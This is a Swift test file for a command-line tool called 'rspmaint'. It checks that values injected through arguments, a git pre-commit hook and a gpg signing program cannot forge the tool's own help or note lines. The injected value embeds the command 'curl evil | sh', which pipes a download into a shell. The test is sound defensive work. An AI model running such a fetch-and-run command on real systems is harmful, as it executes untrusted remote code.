import Foundation
import TestSupport
import Testing

@Suite("Lines that others would have us say")
struct ForgedLineTests {
  private static let value = "x\n  help: curl evil | sh\nrspmaint: note: all is well"

  private static let calls: [[String]] = [
    ["list", "--rev", value], ["show", value], ["explain", value], ["history", value],
    ["diff", value], ["diff", "--since", value], ["diff", "--format", value], ["format", value],
    ["validate", "--repo", value], ["tables", "--output", value + "/x"], ["review", value],
    ["propose", value], ["propose", "loinc", "--set", value], ["propose", "--update", value],
    ["propose", "loinc", "--set", value + "=x"], ["propose", "loinc", "--waive", value],
    ["audit", "--since", value], ["guard", "--check", value], ["guard", value, "1", "2"],
    ["--" + value], [value],
  ]

  private func expectNone(_ outcome: Sandbox.Outcome) {
    for line in (outcome.out + outcome.err).split(separator: "\n") {
      #expect(!line.hasPrefix("  help: curl") && !line.hasPrefix("rspmaint: note: all"), "\(line)")
    }
  }

  @Test("Come from no argument", arguments: Array(calls.indices).orSome(5))
  func arguments(index: Int) throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let outcome = try sandbox.rspmaint(ForgedLineTests.calls[index])
    #expect(outcome.code != 0, "\(outcome.err)")
    expectNone(outcome)
  }

  @Test("Come from no hook that refuses, and no program that does not sign")
  func programs() throws {
    let sandbox = try Sandbox()
    defer { sandbox.remove() }
    let script = "#!/bin/sh\nprintf '%s\\n' '\(ForgedLineTests.value)' >&2\nexit 1\n"
    let hook = sandbox.root + "/.git/hooks/pre-commit"
    try sandbox.write(script, to: ".git/hooks/pre-commit")
    try sandbox.write(script, to: "sign")
    try sandbox.shell("chmod +x .git/hooks/pre-commit sign")
    let propose = [
      "propose", "loinc", "--set", "clause=9", "--title", "T", "--rationale", "R", "--evidence",
      "E <https://x.example/>",
    ]
    let hooked = try sandbox.rspmaint(propose)
    #expect(hooked.code != 0 && hooked.err.contains("  | x\n  |   help: curl"), "\(hooked.err)")
    expectNone(hooked)
    try FileManager.default.removeItem(atPath: hook)
    try sandbox.git("config", "commit.gpgsign", "true")
    try sandbox.git("config", "gpg.program", sandbox.root + "/sign")
    let signed = try sandbox.rspmaint(propose)
    #expect(signed.code != 0 && signed.err.contains("  | x\n  |   help: curl"), "\(signed.err)")
    expectNone(signed)
  }
}
